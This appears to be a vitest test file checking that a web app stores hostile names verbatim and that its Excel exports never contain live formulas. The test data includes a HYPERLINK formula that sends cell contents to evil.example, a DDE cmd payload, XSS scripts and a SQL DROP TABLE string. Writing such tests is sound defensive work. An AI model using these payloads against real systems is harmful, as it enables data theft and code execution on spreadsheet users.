import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEnterprise, buildLead, buildProject } from '../../../tests/support/factories.js';
import type { ApiClient } from '../../../tests/support/client.js';
import { startTestServer, type TestServer } from '../../../tests/support/server.js';
import { REGION_CODES } from '../regions/data.js';

// Text written to attack whoever reads it later: stored exactly as given, and harmless in every export.
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,1)',
  '<script>alert("xss")</script>',
  '<img src=x onerror=alert(1)>',
  "'; DROP TABLE projects; --",
];

let server: TestServer;
let admin: ApiClient;
const written: string[] = [];

beforeAll(async () => {
  server = await startTestServer({ demoProjects: true, demoServiceRequests: true });
  admin = await server.as('admin');
  for (const [i, text] of HOSTILE.entries()) {
    const project = await admin.post('/api/projects', buildProject({ name: text, investorName: `${text}投资`, description: text, regionCode: REGION_CODES.mulei }));
    expect(project.status, JSON.stringify(project.body)).toBe(201);
    expect(project.body.name).toBe(text);
    written.push(text);
    const enterprise = await admin.post('/api/enterprises', buildEnterprise({ name: `${text}${i}`, regionCode: REGION_CODES.mulei }));
    expect(enterprise.status, JSON.stringify(enterprise.body)).toBe(201);
    const lead = await admin.post('/api/leads', buildLead({ enterpriseName: text, regionCode: REGION_CODES.mulei }));
    expect(lead.status, JSON.stringify(lead.body)).toBe(201);
  }
});
afterAll(() => server?.close());

describe('hostile text', () => {
  it('is stored and read back exactly as given', async () => {
    const rows = await server.db.selectFrom('projects').select('name').where('name', 'in', HOSTILE).execute();
    expect(rows.map((r) => r.name).sort()).toEqual([...HOSTILE].sort());
    expect(await server.db.selectFrom('projects').select('id').executeTakeFirst()).toBeTruthy();
  });

  it('every Excel export of the API holds it as text: no formula cell, no cell starting with = + - @', async () => {
    const doc = (await server.anonymous().get('/api/openapi.json')).body as { paths: Record<string, Record<string, unknown>> };
    const exports = Object.entries(doc.paths)
      .filter(([path, methods]) => 'get' in methods && /(\.xlsx|\/export)$/.test(path) && !path.includes('{') && !path.includes('/templates/'))
      .map(([path]) => path);
    expect(exports.length).toBeGreaterThanOrEqual(10);
    const bad: string[] = [];
    let sawHostile = 0;
    for (const path of exports) {
      const res = await admin.get(path);
      if (res.status !== 200 || !res.raw) continue;
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.raw);
      wb.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula && !/^SUM\(/.test(cell.formula ?? '')) bad.push(`${path} ${sheet.name}!${cell.address}: formula ${cell.formula}`);
            const text = typeof cell.value === 'string' ? cell.value : '';
            if (/^[=+@]/.test(text) || /^-.*[+*/()&]/.test(text)) bad.push(`${path} ${sheet.name}!${cell.address}: ${text}`);
            if (HOSTILE.some((h) => text.includes(h.replace(/^[=+\-@]/, '')))) sawHostile += 1;
          }),
        ),
      );
    }
    expect(bad).toEqual([]);
    // The hostile names did reach the exports (as text), so the check above saw them.
    expect(sawHostile).toBeGreaterThan(10);
  });
});
